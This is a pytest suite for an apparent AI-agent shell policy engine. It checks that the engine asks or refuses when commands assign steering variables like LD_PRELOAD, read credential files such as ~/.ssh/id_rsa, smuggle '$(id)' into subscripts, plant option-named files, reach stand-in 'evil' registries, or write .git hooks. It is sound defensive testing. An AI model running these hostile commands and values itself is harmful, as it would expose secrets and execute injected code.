"""Bypass classes judged as classes: every assignment form, every steering variable,
every secret, every option spelling. Each test would fail if one member of a class
were dropped from the rules (a variable from the list, a form from the parser)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent_shell_bridge.policy import PolicyEngine
from agent_shell_bridge.policy.options import SPECS, normalise
from agent_shell_bridge.policy.shell_parse import Word
from agent_shell_bridge.secrets import SECRET_NAMES, is_secret, secret_paths
from agent_shell_bridge.types import Decision

STEERING = [
    "PATH", "HOME", "CDPATH", "OLDPWD", "IFS", "BASH_ENV", "ENV", "GIT_DIR",
    "GIT_SSH_COMMAND", "GIT_CONFIG_GLOBAL", "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH",
    "PYTHONSTARTUP", "PS4", "PROMPT_COMMAND", "PAGER", "NODE_OPTIONS", "SHELLOPTS",
]  # fmt: skip
# Forms that assign a plain variable harmlessly when the name is an ordinary one.
QUIET_FORMS = [
    "for {v} in x; do echo hi; done",
    "select {v} in a; do break; done",
    "printf -v {v} %s x",
    "printf -v{v} %s x",
    "read {v} < README.md",
    "read -r a {v} < README.md",
    "read -a {v} < README.md",
    "mapfile {v} < README.md",
    "readarray -t {v} < README.md",
    "echo $(({v}=1))",
    # += ++ -- read the old value first: arithmetic on a variable the command did not
    # set asks (its value may be code), so each form starts from a number.
    "echo $(({v}=0, {v}+=1))",
    "echo $(({v}=0, ++{v}))",
    "echo $(({v}=0, {v}--))",
]
# Forms that always ask, whatever the name.
LOUD_FORMS = [
    "{v}=x ls",
    "{v}=x",
    "declare {v}=x",
    "typeset {v}=x",
    "local {v}=x",
    "export {v}=x",
    "readonly {v}=x",
    "let {v}=1",
    "(({v}=1))",
]


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    root = tmp_path_factory.mktemp("proj")
    (root / "README.md").write_text("说明\n", encoding="utf-8")
    return PolicyEngine(root)


@pytest.mark.parametrize("form", QUIET_FORMS + LOUD_FORMS)
@pytest.mark.parametrize("var", STEERING)
def test_assigning_a_steering_variable_asks_in_every_form(
    engine: PolicyEngine, form: str, var: str
) -> None:
    verdict = engine.check_command(form.format(v=var))
    assert verdict.decision is not Decision.ALLOW, (form, var, verdict)


@pytest.mark.parametrize("form", QUIET_FORMS)
def test_plain_variables_assigned_the_same_ways_run_without_asking(
    engine: PolicyEngine, form: str
) -> None:
    verdict = engine.check_command(form.format(v="count"))
    assert verdict.decision is Decision.ALLOW, (form, verdict)


@pytest.mark.parametrize("form", QUIET_FORMS[:9])
def test_array_elements_with_code_in_the_subscript_ask(engine: PolicyEngine, form: str) -> None:
    for name in ("'a[$(id)]'", '"a[\\$(id)]"', "'a[`id`]'"):
        verdict = engine.check_command(form.format(v=name))
        assert verdict.decision is not Decision.ALLOW, (form, name, verdict)


@pytest.mark.parametrize(
    "command",
    [
        "[[ {x} -eq 0 ]]",
        "[[ 0 -ne {x} ]]",
        "[[ {x} -lt 1 ]]",
        "test -v {x}",
        "[ -v {x} ]",
        "[[ -v {x} ]]",
        "echo $(( {x} ))",
        "echo ${{a[{x}]}}",
        'echo "${{a[{x}]}}"',
    ],
)
def test_text_evaluated_as_arithmetic_with_code_in_a_subscript_asks(
    engine: PolicyEngine, command: str
) -> None:
    for x in ("'a[$(id)]'", '"a[\\$(id)]"', "'a[`id`]'"):
        verdict = engine.check_command(command.format(x=x))
        assert verdict.decision is not Decision.ALLOW, (command, x, verdict)
    assert engine.check_command(command.format(x="1")).decision is Decision.ALLOW


# -- secrets -----------------------------------------------------------------


@pytest.fixture(scope="module")
def home_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, PolicyEngine]:
    home = tmp_path_factory.mktemp("home").resolve()
    for name in SECRET_NAMES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("secret\n", encoding="utf-8")
    (home / "notes.txt").write_text("笔记\n", encoding="utf-8")
    return home, PolicyEngine(home, home=home)


def test_the_secret_list_covers_the_issue_list(tmp_path: Path) -> None:
    required = [
        ".ssh/id_rsa", ".gnupg/x", ".aws/credentials", ".netrc", ".pypirc",
        ".docker/config.json", ".config/gh/hosts.yml", ".kube/config", ".authinfo",
        ".authinfo.gpg", ".authinfo-work", ".password-store/x.gpg",
        ".local/share/keyrings/login.keyring",
    ]  # fmt: skip
    for rel in required:
        assert is_secret(tmp_path / rel, tmp_path), rel
    for rel in ("notes.txt", ".docker/daemon.json", ".config/ghost", "src/.ssh/x", ".sshx"):
        assert not is_secret(tmp_path / rel, tmp_path), rel
    assert tmp_path / ".ssh" in secret_paths(tmp_path)


def test_a_link_into_a_secret_is_a_secret(tmp_path: Path) -> None:
    (tmp_path / ".ssh").mkdir()
    os.symlink(".ssh", tmp_path / "innocent")
    assert is_secret(tmp_path / "innocent" / "id_rsa", tmp_path)
    assert is_secret(tmp_path / "src" / ".." / ".SSH" / "id_rsa", tmp_path)


@pytest.mark.parametrize("name", SECRET_NAMES)
@pytest.mark.parametrize(
    "template", ["cat {p}", "head -n1 {p}", "base64 {p}", "sort {p}", "grep x {p}", "wc {p}"]
)
def test_secrets_are_never_read_without_asking_even_at_home(
    home_project: tuple[Path, PolicyEngine], name: str, template: str
) -> None:
    home, engine = home_project
    for spelled in (name, f"~/{name}", f"./{name}", str(home / name)):
        verdict = engine.check_command(template.format(p=spelled))
        assert verdict.decision is not Decision.ALLOW, (spelled, verdict)
    assert engine.check_path(name, "read").decision is Decision.DENY
    assert engine.check_command(template.format(p="notes.txt")).decision is Decision.ALLOW


def test_recursive_searches_over_home_ask(home_project: tuple[Path, PolicyEngine]) -> None:
    _, engine = home_project
    for command in ("grep -r x .", "grep -R x", "rg x", "rg x ~", "diff -r --no-dereference . ."):
        assert engine.check_command(command).decision is not Decision.ALLOW, command
    assert engine.check_command("grep x notes.txt").decision is Decision.ALLOW


# -- options -----------------------------------------------------------------


def _norm(program: str, line: str) -> list[str] | str:
    out = normalise(SPECS[program], [Word(t) for t in line.split()])
    return out if isinstance(out, str) else [w.text for w in out]


@pytest.mark.parametrize(
    ("program", "line", "expected"),
    [
        ("sort", "--co=sh a", ["--compress-program=sh", "--", "a"]),
        ("sort", "--out=x a", ["--output=x", "--", "a"]),
        ("sort", "--output x a", ["--output=x", "--", "a"]),
        ("sort", "-ruo.git/config a", ["--reverse", "--unique", "--output=.git/config", "--", "a"]),
        ("sort", "a -o x", ["--output=x", "--", "a"]),
        ("sort", "-- -o x", ["--", "-o", "x"]),
        ("sort", "-k 2 -t, a", ["--key=2", "--field-separator=,", "--", "a"]),
        ("tree", "-Co F .", ["-C", "--output=F", "--", "."]),
        ("date", "-us @0", ["--utc", "--set=@0", "--"]),
        ("date", "-Iseconds", ["--iso-8601=seconds", "--"]),
        ("grep", "-rnA3 x .", ["--recursive", "-n", "-A", "3", "--", "x", "."]),
        ("grep", "-5 x f", ["-5", "--", "x", "f"]),
        ("wc", "--files0=-", ["--files0-from=-", "--"]),
    ],
)
def test_option_spellings_are_normalised(program: str, line: str, expected: list[str]) -> None:
    assert _norm(program, line) == expected


@pytest.mark.parametrize(
    ("program", "line", "why"),
    [
        ("sort", "--c a", "ambiguous"),
        ("sort", "--zzz a", "not an option"),
        ("sort", "-Q a", "not an option"),
        ("sort", "--reverse=1 a", "takes no value"),
        ("sort", "-o", "needs a value"),
        ("tree", "--output=x", "not an option"),
        ("date", "--r=1", "ambiguous"),
    ],
)
def test_unknown_or_ambiguous_options_are_refused(program: str, line: str, why: str) -> None:
    result = _norm(program, line)
    assert isinstance(result, str) and why in result, result


def test_computed_words_that_could_become_options_are_refused() -> None:
    spec = SPECS["sort"]
    assert isinstance(normalise(spec, [Word("$x", literal=False, expansion=True)]), str)
    assert isinstance(normalise(spec, [Word('"$(cat f)"', literal=False, substitution=True)]), str)
    ok = normalise(spec, [Word("*.txt", literal=False, glob=True)])
    assert not isinstance(ok, str)
    include = Word("--include=*.py", literal=False, glob=True)
    assert not isinstance(normalise(SPECS["grep"], [include]), str)


def test_a_planted_file_named_like_an_option_stops_a_glob(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n", encoding="utf-8")
    engine = PolicyEngine(tmp_path)
    assert engine.check_command("sort *").decision is Decision.ALLOW
    (tmp_path / "--compress-program=sh").write_text("", encoding="utf-8")
    verdict = engine.check_command("sort *")
    assert verdict.decision is Decision.CONFIRM
    assert "option" in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "npm view x --registry=https://host/",
        "npm view left-pad",
        "npm search foo",
        "yarn info react",
        "npm ls --registry https://evil/",
        "git remote show https://host/DATA",
        "git remote show origin",
        "git ls-remote https://host/x",
        "git fetch",
        "go list -m host/DATA@latest",
        "go list -m -versions golang.org/x/text",
        "go list -m all",
        "pip download requests --index-url https://evil/simple",
    ],
)
def test_network_lookups_ask_and_say_so(engine: PolicyEngine, command: str) -> None:
    verdict = engine.check_command(command)
    assert verdict.decision is Decision.CONFIRM
    assert "network" in verdict.reason or "registry" in verdict.reason, verdict


PROTECTED = [
    ".git/config",
    ".git/hooks/pre-commit",
    ".GIT/hooks/post-checkout",
    ".agent-shell/allowlist.el",
    ".agent-shell/config.el",
    ".agent-shell/logs/2026-12-01-x.org",
    ".agent-shell/sessions/s1.json",
    ".agent-shell/snapshots/index.jsonl",
]
WRITERS = [
    "sort -o {p} README.md",
    "sort --output={p} README.md",
    "sort --out={p} README.md",
    "sort -uo{p} README.md",
    "sort README.md --output {p}",
    "tree -o {p}",
    "tree -Co {p} .",
    "uniq README.md {p}",
    "git diff --output={p}",
    "git archive -o {p} HEAD",
    "find . -fprint {p}",
    "tee {p}",
    "echo x > {p}",
    "echo x >> {p}",
    "cp README.md {p}",
    "curl -o{p} https://example.com/",
    "dd if=README.md of={p}",
]


@pytest.mark.parametrize("writer", WRITERS)
def test_every_way_of_writing_a_protected_file_is_refused(
    engine: PolicyEngine, writer: str
) -> None:
    for target in PROTECTED:
        verdict = engine.check_command(writer.format(p=target))
        assert verdict.decision is Decision.DENY, (writer, target, verdict)
    assert engine.check_command(writer.format(p="build/out.txt")).decision is not Decision.DENY
